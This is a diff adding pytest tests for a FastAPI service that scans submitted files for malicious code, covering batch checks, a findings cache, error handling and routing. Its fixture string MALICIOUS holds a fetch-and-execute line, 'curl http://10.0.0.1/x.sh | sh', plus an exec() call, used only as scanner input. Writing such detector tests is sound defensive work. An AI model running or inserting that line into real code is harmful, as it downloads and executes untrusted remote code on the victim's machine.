@@ -0,0 +1,105 @@
+import base64
+
+import pytest
+from fastapi.testclient import TestClient
+
+from app.api.v1.endpoints import scan
+from app.main import app
+
+MALICIOUS = 'import os\nos.system("curl http://10.0.0.1/x.sh | sh")\nexec(open("a").read())\n'
+BENIGN = 'def add(a, b):\n    return a + b\n'
+
+FILES = [
+    {"file_path": "setup.py", "content": MALICIOUS},
+    {"file_path": "pkg/util.py", "content": BENIGN},
+    {"file_path": "README.md", "content": "Mirror at 192.168.1.20"},
+    # Same content as setup.py: scanned once, answered for both paths
+    {"file_path": "vendor/setup_copy.py", "content": MALICIOUS},
+    # Same content again, but not .py so it gets no AST pass
+    {"file_path": "notes.txt", "content": MALICIOUS},
+    {"file_path": "pkg/encoded.py", "content": base64.b64encode(MALICIOUS.encode()).decode(), "is_base64": True},
+]
+
+
+@pytest.fixture(scope="module")
+def client():
+    # Entering the client runs the lifespan, which starts the /batch_check worker pool
+    with TestClient(app) as c:
+        yield c
+
+
+def test_batch_check_matches_check(client):
+    expected = [client.post("/api/v1/scan/check", json=f).json() for f in FILES]
+    response = client.post("/api/v1/scan/batch_check", json={"files": FILES})
+    assert response.status_code == 200
+    assert response.json() == expected
+    assert expected[0]["status"] == "DANGER"
+    assert expected[1]["status"] == "SAFE"
+
+
+class _NoScanPool:
+    """Stands in for PROCESS_POOL when every file must come from the findings cache."""
+    def submit(self, *args, **kwargs):
+        raise AssertionError("file was scanned instead of served from _FINDINGS_CACHE")
+
+
+def _key(f):
+    return scan._findings_key(f["file_path"], f["content"], f.get("is_base64", False))
+
+
+def test_batch_check_repeat_hits_findings_cache(client, monkeypatch):
+    scan._FINDINGS_CACHE.clear()
+    first = client.post("/api/v1/scan/batch_check", json={"files": FILES}).json()
+    # One entry per distinct (content, is_base64, .py) key; duplicates share it
+    assert set(scan._FINDINGS_CACHE) == {_key(f) for f in FILES}
+
+    monkeypatch.setattr(scan, "PROCESS_POOL", _NoScanPool())
+    second = client.post("/api/v1/scan/batch_check", json={"files": FILES[::-1]}).json()
+    assert second == first[::-1]
+
+
+def test_batch_check_does_not_cache_failures(client):
+    bad = {"file_path": "bad.py", "content": base64.b64encode(b"\xff\xfe").decode(), "is_base64": True}
+    results = client.post("/api/v1/scan/batch_check", json={"files": [bad]}).json()
+    assert results[0]["status"] == "ERROR"
+    assert _key(bad) not in scan._FINDINGS_CACHE
+
+
+def test_batch_check_missing_key(client):
+    files = [FILES[0], {"file_path": "broken.py"}]
+    assert client.post("/api/v1/scan/batch_check", json={"files": files}).status_code == 422
+    assert client.post("/api/v1/scan/check", json=files[1]).status_code == 422
+
+
+def test_batch_check_isolates_failed_file(client):
+    bad = {"file_path": "bad.py", "content": base64.b64encode(b"\xff\xfe").decode(), "is_base64": True}
+    response = client.post("/api/v1/scan/batch_check", json={"files": [FILES[0], bad, FILES[1]]})
+    assert response.status_code == 200
+    results = response.json()
+    assert results[1]["file"] == "bad.py"
+    assert results[1]["status"] == "ERROR"
+    assert results[1]["findings"] == []
+    assert results[0] == client.post("/api/v1/scan/check", json=FILES[0]).json()
+    assert results[2] == client.post("/api/v1/scan/check", json=FILES[1]).json()
+
+
+def test_batch_check_rejects_non_bool_base64(client):
+    files = [{"file_path": "a.py", "content": "x = 1", "is_base64": "maybe"}]
+    assert client.post("/api/v1/scan/batch_check", json={"files": files}).status_code == 422
+
+
+@pytest.mark.parametrize("prefix", ["scan", "semgrep_check", "rule_based_check"])
+def test_scan_prefixes(client, prefix):
+    response = client.post(f"/api/v1/{prefix}/check", json=FILES[0])
+    assert response.status_code == 200
+    assert response.json() == client.post("/api/v1/scan/check", json=FILES[0]).json()
+
+
+def test_unknown_scan_prefix(client):
+    assert client.post("/api/v1/bogus/check", json=FILES[0]).status_code == 404
+    assert client.post("/api/v1/bogus/batch_check", json={"files": [FILES[0]]}).status_code == 404
+
+
+def test_other_routers_not_shadowed(client):
+    assert client.get("/").status_code == 200
+    assert client.post("/api/v1/classifier_based_check", json={"package_name": "x", "files": []}).status_code == 200